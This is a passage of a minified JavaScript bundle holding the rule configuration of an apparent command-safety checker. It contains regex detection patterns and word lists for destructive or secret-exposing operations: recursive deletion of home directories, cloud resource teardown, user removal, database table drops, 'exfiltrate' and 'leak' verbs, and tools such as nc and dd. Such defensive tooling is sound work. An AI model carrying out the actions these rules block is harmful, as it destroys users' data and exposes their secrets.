++(?:-\\\\w*R\\\\w*|--reverse))[ \\\\t]+(?:-\\\\S+[ \\\\t]+){0,9}([^\\\\n;]+)"]}},"hbase":{"does":{"sql drop-table x":["(?:^|[;{}|\\\\n])[ \\\\t]*(?:drop|drop_all|truncate|trunc\
+ate_preserve|drop_namespace|deleteall)\\\\b(?=[ \\\\t])"]}},"man":{"short":"PHLm","long":["pager","html"],"code":["P","pager","H","html"]},"ansible":{"short":"aimuf\
+","long":["args","module-name","inventory","user"],"code":["a","args"],"unless":["check","C","syntax-check","list-hosts"]},"ansible-playbook":{"short":"ielftu",\
+"long":["inventory","extra-vars","limit","forks","tags","skip-tags","user","private-key","vault-password-file","start-at-task"],"unless":["check","C","syntax-ch\
+eck","list-hosts","list-tasks","list-tags"],"does":{"rm -r ~/$":["\\\\b(?:(?:ansible\\\\.builtin\\\\.)?file):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t\
+]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+(?:path|dest|name):[ \\\\t]*[\\\\\\"']?(?:~|\\\\{\\\\{[^}\\\\n]*(?:HOME|home|user_dir)\\\\\
+b[^}\\\\n]*\\\\}\\\\}|\\\\$HOME|/(?:home|Users|root)/?(?:\\\\{\\\\{[^}\\\\n]*\\\\}\\\\})?)/([^\\\\s\\"',}]+|\\\\{\\\\{[^}\\\\n]*\\\\}\\\\})"],"rm -r $":["\\\\b(?:(?:ansible\\\\.builtin\\\\.)?file):\
+[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+(?:path|dest|name):[\
+ \\\\t]*[\\\\\\"']?([/.\\\\w][^\\\\s\\"',}]*)","\\\\bfile:[ \\\\t]*(?=[^\\\\n]*\\\\bstate[=:][ \\\\t]*absent)[^\\\\n]*?\\\\b(?:path|dest)[=:][ \\\\t]*[\\"']?([/.\\\\w][^\\\\s\\"',}]*)"],"rm -r\
+ ~":["\\\\b(?:(?:ansible\\\\.builtin\\\\.)?file):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\
+\\\\n]*\\\\n){0,12}?[ \\\\t]+(?:path|dest|name):[ \\\\t]*[\\\\\\"']?(?:~|\\\\{\\\\{[^}\\\\n]*(?:HOME|home|user_dir)\\\\b[^}\\\\n]*\\\\}\\\\}|\\\\$HOME|/(?:home|Users|root)/?(?:\\\\{\\\\{[^}\\\\\
+n]*\\\\}\\\\})?)/?[\\"']?[ \\\\t]*\\\\n"],"cloud-sdk delete":["\\\\b(?:(?:kubernetes\\\\.core|amazon\\\\.aws|community\\\\.aws|azure\\\\.azcollection|google\\\\.cloud|community\\\\.di\
+gitalocean|hetzner\\\\.hcloud|openstack\\\\.cloud|community\\\\.(?:postgresql|mysql|mongodb|vmware|okd|proxmox))\\\\.\\\\w+|k8s|helm|ec2(?:_instance|_vol)?|rds(?:_instanc\
+e|_cluster)?|s3_bucket|route53|gcp_\\\\w+|azure_rm_\\\\w+|(?:community\\\\.docker\\\\.)?docker_volume|postgresql_db|mysql_db|mongodb_user|vmware_guest):[ \\\\t]*\\\\n(?=(?:\
+[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent|terminated|deleted)\\\\b)","\\\\b(?:(?:kubernetes\\\\.core|amazon\\\\.aws|community\\\\.aws|azur\
+e\\\\.azcollection|google\\\\.cloud|community\\\\.digitalocean|hetzner\\\\.hcloud|openstack\\\\.cloud|community\\\\.(?:postgresql|mysql|mongodb|vmware|okd|proxmox))\\\\.\\\\w+|\
+k8s|helm|ec2(?:_instance|_vol)?|rds(?:_instance|_cluster)?|s3_bucket|route53|gcp_\\\\w+|azure_rm_\\\\w+|(?:community\\\\.docker\\\\.)?docker_volume|postgresql_db|mysql_\
+db|mongodb_user|vmware_guest):(?=[^\\\\n]*\\\\bstate[=:][ \\\\t]*(?:absent|terminated|deleted)\\\\b)"],"userdel $":["\\\\b(?:(?:ansible\\\\.builtin\\\\.)?user):[ \\\\t]*\\\\n(?=(\
+?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+name:[ \\\\t]*[\\"']?([\\\\w.-]+)"],"sy\
+stemctl stop $":["^(?![\\\\s\\\\S]*\\\\bstate:[ \\\\t]*(?:re)?started\\\\b)[\\\\s\\\\S]*?\\\\b(?:(?:ansible\\\\.builtin\\\\.)?(?:service|systemd(?:_service)?)):[ \\\\t]*\\\\n(?=(?:[ \\\\\
+t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:stopped)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+name:[ \\\\t]*[\\"']?([\\\\w@.-]+)"],"reboot\
+":["\\\\b(?:ansible\\\\.builtin\\\\.reboot|community\\\\.general\\\\.shutdown):"],"$":["\\\\b(?:shell|command|raw|cmd)[ \\\\t]*:[ \\\\t]*(?![|>\\"'\\\\s])(?:cmd=)?([^\\\\n]+)","\\\\b(\
+?:shell|command|raw|cmd)[ \\\\t]*:[ \\\\t]*([\\"'])([^\\\\n]+)\\\\1[ \\\\t]*(?=\\\\n|$)","\\\\b(?:shell|raw|cmd)[ \\\\t]*:[ \\\\t]*[|>][-+]?[ \\\\t]*\\\\n((?:[ \\\\t]+(?![ \\\\t]|- |\\\\w+:\
+(?:[ \\\\t\\\\n]|$))[^\\\\n]*(?:\\\\n|$)){1,60})"]}},"editor":{"does":{"truncate -s 0 $":["^(?![\\\\s\\\\S]*(?:\\\\b\\\\d*(?:r|read|pu|put|norm|normal|append|setline|readfile)\\\
+\\b|\\\\n\\\\s*[aic]\\\\s*\\\\n))[\\\\s\\\\S]*?(?:^|\\\\n\\\\s*:?)(?:args|argadd|n|next|e|edit)!?[ \\\\t]+([^|\\\\s][^|\\\\n]*)[\\\\s\\\\S]*[|\\\\s:](?:%|[01],\\\\$)d(?:elete)?\\\\b[\\\\s\\\\S]*\\\\b\
+(?:up|update|w|wq|wa|wqa|write|wn|x|xa|xall|xit)\\\\b"],"rm -r $":["\\\\bdelete\\\\(\\\\s*(?:expand\\\\(\\\\s*|fnamemodify\\\\(\\\\s*)?[\\"']([^\\"'|]+)[\\"']"]}},"terraform":{"do\
+es":{"terraform output -raw secret":["\\\\bnonsensitive\\\\((?![ \\\\t]*(?:length|keys|sha\\\\d+|md5|type|can)\\\\()"]}},"tofu":{"does":{"terraform output -raw secret":["\
+\\\\bnonsensitive\\\\((?![ \\\\t]*(?:length|keys|sha\\\\d+|md5|type|can)\\\\()"]}},"terragrunt":{"does":{"terraform output -raw secret":["\\\\bnonsensitive\\\\((?![ \\\\t]*(?:l\
+ength|keys|sha\\\\d+|md5|type|can)\\\\()"]}},"nodemon":{"short":"x","long":["exec"],"code":["x","exec"]},"nix-shell":{"short":"pAI","long":["run","command"],"code":\
+["run","command"]}},"formats":{"date":{"prefix":"+"},"git":{"long":["format","pretty"],"names":["format","pretty"]},"curl":{"short":"woXHdFuAebcT","long":["writ\
+e-out","output"],"names":["w","write-out"]},"ps":{"short":"oOpCuUgGts","names":["o","O","format"],"unread":"=[\\\\s\\\\S]*[^\\\\w,=%:]"},"numfmt":{"short":"d","long":\
+["format","suffix","from","to"],"names":["format","suffix","invalid"],"unread":"[^\\\\w%.'+-]"},"expr":{"unread":"^(?!(?:(?:-?\\\\d+|\\\\uFFFC+|[-+*/%()|&<>=!]{1,2}|:\
+\\\\s\\\\S+|match|length|index)(?:\\\\s+|$))*$)"},"docker":{"short":"f","long":["format"],"names":["f","format"],"unread":"^(?!(?:json|raw|table\\\\b.*|[\\\\w.-]+=[\\\\w./:\
+-]*)$)(?!(?:\\\\{\\\\{(?!-?\\\\s*(?:print(?:f|ln)?\\\\s*)?[\\"\`])[^}]*\\\\}\\\\}|\\\\\\\\[nt]|[\\\\s,:=|-])*$)"},"podman":{"short":"f","long":["format"],"names":["f","format"],"un\
+read":"^(?!(?:json|raw|table\\\\b.*|[\\\\w.-]+=[\\\\w./:-]*)$)(?!(?:\\\\{\\\\{(?!-?\\\\s*(?:print(?:f|ln)?\\\\s*)?[\\"\`])[^}]*\\\\}\\\\}|\\\\\\\\[nt]|[\\\\s,:=|-])*$)"},"kubectl":{"shor\
+t":"on","long":["output","namespace"],"names":["o","output"],"unread":"^=?(?:jsonpath|go-template)[\\\\w-]*=(?!(?:\\\\{+(?:\\"(?:\\\\\\\\[nt]|[,:. ])*\\"|(?:[^\\"'{}]|[=!]\
+=\\\\s*[\\"'][^\\"']*[\\"'])*)\\\\}+|[\\\\s,:=-])*$)"}},"getopt":{"find":{"long":["name","iname","path","ipath","wholename","iwholename","regex","iregex","lname","ilname\
+","type","xtype","size","mtime","atime","ctime","mmin","amin","cmin","used","newer","anewer","cnewer","user","group","uid","gid","perm","links","inum","samefile\
+","context","fstype","maxdepth","mindepth","regextype","printf","fprint","fprint0","fls","files0-from"]},"editor":{"short":"cS","long":["cmd"],"permuted":true},\
+"ssh":{"short":"bBcDEeFIiJLlmOopQRSWw"},"screen":{"short":"SscehpTt"},"container":{"short":"aceghlmpuvwfHnq","long":["env","env-file","user","workdir","detach-k\
+eys","name","volume","mount","network","publish","label","entrypoint","add-host","cap-add","cap-drop","cpus","cpuset-cpus","device","dns","expose","gpus","group\
+-add","hostname","ip","ipc","link","log-driver","log-opt","memory","pid","platform","pull","restart","runtime","security-opt","shm-size","stop-signal","tmpfs","\
+ulimit","userns","volumes-from","cgroupns","host","context","config","file","project-name","profile","project-directory","namespace","container","index","kubeco\
+nfig","cluster","as","image","target"]},"copy":{"short":"tSgmo","long":["target-directory","suffix","mode","owner","group"],"permuted":true},"request":{"short":\
+"oHdXAFuTebKCmxEywzU","long":["d","data","data-raw","data-binary","data-urlencode","data-ascii","json","post-data","body-data","header","request","user","output\
+","form","url","user-agent"],"permuted":true},"tmux":{"short":"LSfcT"},"tmux-command":{"short":"stncxyeFlp"},"git":{"short":"Cc","long":["git-dir","work-tree","\
+namespace","exec-path","config-env","super-prefix","attr-source","list-cmds"]},"sed":{"short":"efl","long":["expression","file","line-length"],"permuted":true},\
+"xargs":{"short":"aEILnPsd","long":["arg-file","delimiter","max-lines","max-args","max-procs","max-chars","process-slot-var"]},"parallel":{"short":"jNnLSIaCEPsd\
+","long":["jobs","max-args","max-lines","max-replace-args","sshlogin","sshloginfile","arg-file","colsep","delay","timeout","joblog","results","retries","workdir\
+","wd","tmpdir","replace","delimiter","header","halt","nice","load","memfree","basefile","return","trc","env","profile","tagstring","tmux","block","recstart","r\
+ecend","shuf","limit","term-seq","arg-sep","arg-file-sep","rpl","max-chars","max-procs"]},"shell":{"short":"oO","long":["rcfile","init-file","emulate"]},"fish":\
+{"short":"cCdDfop","long":["command","init-command","features","debug","debug-level","debug-output","profile","profile-startup"]},"make":{"short":"fCIjlo","long\
+":["file","makefile","directory","eval","jobs"],"permuted":true},"just":{"short":"fd","long":["justfile","working-directory","set"]},"grep":{"short":"efmABC","l\
+ong":["regexp","file","max-count","include","exclude","exclude-dir","color","context"],"permuted":true}},"shell_variables":{"HOME":"~","IFS":" \\t\\n","SHELL":"/b\
+in/bash","BASH":"/bin/bash","TMPDIR":"/tmp","?":"0","!":"%%","$":"7340281946","RANDOM":"734028194601","SRANDOM":"734028194602","EPOCHSECONDS":"734028194603"},"m\
+ake_variables":{"HOME":"~","RM":"rm -f","MAKE":"make","CURDIR":".","PWD":"."},"escapes":{"a":"\\u0007","b":"\\b","e":"\\u001b","E":"\\u001b","f":"\\f","n":"\\n","r":"\
+\\r","t":"\\t","v":"\\u000b"},"character_classes":{"upper":"A-Z","lower":"a-z","digit":"0-9","alpha":"A-Za-z","alnum":"A-Za-z0-9","space":" \\\\t\\\\n\\\\r\\\\f\\\\v"},"cand\
+idates":{"rm":{"only":["delete-machine","delete-system-file","delete-workspace","delete-vcs"]},"chmod":{"only":["change-rights-of-machine"]},"dd":{"only":["over\
+write-disk"]},"git":{},"kubectl":{},"terraform":{},"docker":{},"aws":{}}},"sentences":{"before_order":["please","then","next","now","first","second","third","fi\
+nally","lastly","also","just","simply","and","so","ok","okay","well","afterwards","afterward","after","that","immediately","quickly","silently","quietly","perma\
+nently","completely","forcefully","forcibly","recursively","always","go","ahead","kindly","step","todo","task","goal","plan","objective","instruction","instruct\
+ions:","->","=>","-","*","once","done","from","here","on","to","be","safe","start","by","begin","in","order","bitte","erst","dann","danach","jetzt","nun","zuers\
+t","zun\\u00e4chst","anschlie\\u00dfend","schlie\\u00dflich","puis","ensuite","maintenant","luego","ahora","primero","despu\\u00e9s","por","favor"],"between":["just\
+","then","also","now","first","simply","really","definitely","quickly","completely","permanently","forcefully","forcibly","recursively","immediately","silently"\
+,"quietly","safely","manually","please","go","ahead","and","finally","probably","simply","again","all"],"denials":["not","don't","dont","never","no","nor","with\
+out","avoid","cannot","can't","cant","won't","wont","shouldn't","mustn't","doesn't","didn't","wouldn't","couldn't","isn't","aren't","refuse","refuses","refusing\
+","prevent","prevents","preventing","forbid","forbids","forbidden","prohibit","prohibits","prohibited","disallow","disallowed","block","blocks","blocking","bloc\
+ked","stop","stops","protect","protects","against","unless","warn","warns","rather","instead","neither","hardly","nothing","nobody","ne"],"ends_denial":["but","\
+instead","just","rather","simply","only"],"speech_verbs":["explain","explains","document","documents","describe","describes","discuss","mention","mentions","not\
+e","notes","review","reviews","summarize","summarise","clarify","investigate","analyze","analyse","research","check","verify","confirm","ask","consider","compar\
+e","evaluate","test","tests","cover","fix","fixes","rename","refactor","detect","detects","reject","rejects","report","reports","flag","flags","catch","catches"\
+,"grep","search","look","find","understand","teach","highlight","reword","rewrite-docs","translate","list","suggests","assert","handle","handles"],"predicates":\
+["is","are","was","were","isn't","aren't","wasn't","can","can't","may","might","would","could","should","has","had","does","doesn't","returns","fails","failed",\
+"throws","breaks","broke","causes","caused","shows","requires","takes","works","happens","leads","means","seems","appears","crashes","crashed","hangs","deletes"\
+,"removes","looks","becomes","gets"],"subjects":["the","this","that","these","those","it","a","an","users","they","he","she","there","some","if","when"],"relati\
+ve":["that","which","what","who","someone","somebody","anyone","anybody","where","it","there","they","we","i","you","whatever","everything"],"creation_verbs":["\
+create","write","make","build","generate","develop","craft","prepare","produce"],"program":["script","program","command","one-liner","code","function","file","p\
+rocess","tool","job","playbook"],"passes_on":["post","posting","send","sending","upload","uploading","mail","email","share","publish","leak","forward","paste","\
+push","copy","dump","transmit","exfiltrate"],"pronouns":["it","them"],"one_of":["each","every"],"heads":["key","secret","credential","password","one"],"overwrit\
+es":["overwrite","overwriting","clobber","replace"],"doubled":["drop","zip","wget","put","set","shut","rm","get","plug","ship","scrub","grab","cat","log","strip\
+","zap","stop","commit","reset","run","submit"],"run_verbs":["run","execute","use","do","invoke","call","type","issue","launch","try","start","perform","enter",\
+"apply"],"mentions":["dangerous","destructive","harmful","unsafe","bad","example","examples","e.g","denied","disallowed","risky","don'ts","banned","anti-pattern\
+","anti-patterns","error","errors","log","logs","output","diff","changelog","test","tests","case","cases","document","documents","documentation","docs","reporte\
+d","reports","says","said","bug","reproduce","repro","expected","actual","observed","quote"],"separates":["not","never","instead","without","than","avoid","don'\
+t","about","whether","why"],"before_verbs":["to","will","and","please","should","let's","i'll","we'll","me","us","then","must","can","now","next","also","just",\
+"or"],"shells":["sh","bash","zsh","shell","console","terminal","shell-session","shellscript"],"command_names":["git","rm","sudo","curl","wget","chmod","chown","\
+dd","mkfs","kubectl","docker","terraform","psql","mysql","redis-cli","npm","pip","cargo","gem","twine","aws","gcloud","az","systemctl","iptables","ufw","crontab\
+","ssh","scp","rsync","nc","kill","pkill","killall","shred","truncate","shutdown","reboot","find","tar","cat","mv","cp","bash","sh","python","python3","node","h\
+elm","gh","useradd","passwd","mount","umount","eval","openssl","gpg"],"command_verbs":["push","reset","clean","checkout","restore","branch","stash","rebase","fi\
+lter-branch","filter-repo","reflog","gc","clone","pull","fetch","commit","delete","apply","scale","drain","exec","destroy","system","volume","rmi","run","publis\
+h","unpublish","yank","upload","stop","disable","mask","s3","ec2","rds","rm","prune","flushall","uninstall","release","repo"],"fences":{"python":"python3 -c","p\
+y":"python3 -c","js":"node -e","javascript":"node -e","sql":"psql -c"},"irregular":{"send":"sent","put":"put","set":"set","shut":"shut","write":"written","give"\
+:"given","tear":"torn","blow":"blown","get":"got","read":"read","take":"taken","steal":"stolen","make":"made","overwrite":"overwritten","rewrite":"rewritten","b\
+ring":"brought","force-push":"force-pushed"},"classes":{"root":"^/\\\\*?$","home":"^(?:~|\\\\$home|\\\\$\\\\{home\\\\}|/root|/home|/users)(?:/(?:[^/\\\\s]*|\\\\*)?)?$","syste\
+m-path":"^(?!/(?:var/tmp|dev/(?:null|shm|stdout|stderr|stdin)))/(?:etc|usr|bin|sbin|boot|lib(?:32|64)?|var|sys|proc|dev|root|home|opt|srv|mnt|media)(?:/|$)|^[a-\
+z]:\\\\\\\\(?:windows|users|program files)|^c:\\\\\\\\?$","device":"^/dev/(?:sd|nvme|vd|hd|xvd|mmcblk|disk|mapper|md)\\\\w*","startup-file":"(?:^|/)\\\\.(?:bashrc|bash_prof\
+ile|bash_login|bash_logout|profile|zshrc|zshenv|zprofile|zlogin|kshrc|cshrc|xinitrc|xprofile|inputrc)$|config\\\\.fish$|^/etc/(?:profile|rc\\\\.local|cron|init\\\\.d|\
+systemd|ld\\\\.so\\\\.preload|sudoers|environment)","url":"^(?:https?|ftp|s3|wss?|scp|sftp)://|^\\\\d{1,3}(?:\\\\.\\\\d{1,3}){3}(?::\\\\d+)?|^[\\\\w-]+(?:\\\\.[\\\\w-]+)*\\\\.(?:co\
+m|net|io|org|sh|dev|xyz|ru|cc|me|example|site|info|app|onion)(?:[:/]|$)|^[\\\\w.-]+@[\\\\w-]+\\\\.[\\\\w.-]+$"},"refusals":{"unreadable-command":"The command $. Write i\
+t plainly, or in several steps.","unparsed-command":"No shell reads this: $. Give the command alone; what is no command belongs in a file or an answer.","unveri\
+fiable-command":"Nobody can say before it runs which program this is, and it may be a dangerous one. $","unreadable-text":"The text is too long to be judged. Sa\
+y it in parts."}}}`);var Gr=["reads","writes","deletes","moves","changes"],Lw=Object.keys(Y.paths.classes),du=(t,e)=>Object.fromEntries(Object.entries(t).map(([s,r])=>[s,e(r)])),mr=t=>du(
 t,e=>new Set(e)),Ia=t=>du(t,([e,s])=>new RegExp(e,s)),{irregular:Dw,classes:jw,fences:Ww,refusals:Mw,...Fw}=Y.sentences,Te=t=>new Map(Object.entries(t)),b=Ia(Y.
 forms.forms),_e=mr(Y.programs.words),D=mr(Y.languages.words),Je=mr(Y.paths.words),q={grammars:Te(Y.arguments.grammars),grammarAliases:Te(Y.arguments.aliases),gitOptions:Te(
 Y.arguments.git_options),dryRuns:Te(Y.arguments.dry_runs),help:mr(Y.arguments.help),roles:Te(Y.arguments.roles),interpreters:Te(Y.programs.interpreters),consoles:Te(
